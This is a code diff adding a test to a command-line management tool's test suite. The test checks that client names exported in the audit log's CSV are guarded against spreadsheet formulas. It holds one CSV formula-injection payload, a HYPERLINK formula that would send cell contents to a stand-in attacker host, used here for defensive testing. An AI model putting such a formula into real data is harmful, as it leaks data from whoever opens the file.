@@ -171,6 +171,18 @@ describe('a management group at the terminal', () => {
     assert.deepEqual([both.code, /not both/.test(both.err)], [2, true]);
   });
 
+  it('guards names in the CSV of the audit log against formulas', async () => {
+    const { run, base } = trading;
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"ok")';
+    const made = await run(['clients', 'create', '--name', name, '--url', base, '--json'], admin);
+    assert.equal(made.code, 0, made.err);
+
+    const { out } = await run(['audit', '--last', '1', '--format', 'csv'], admin);
+
+    const [, line = ''] = out.split('\r\n');
+    assert.match(line, /^\S+Z,client\.created,"'=HYPERLINK\(""http/);
+  });
+
   it('says the remaining quota of limits', async () => {
     const { running, run } = trading;
     assert.match((await run(['limits', '--format', 'table'], admin)).out, /limits nothing/);
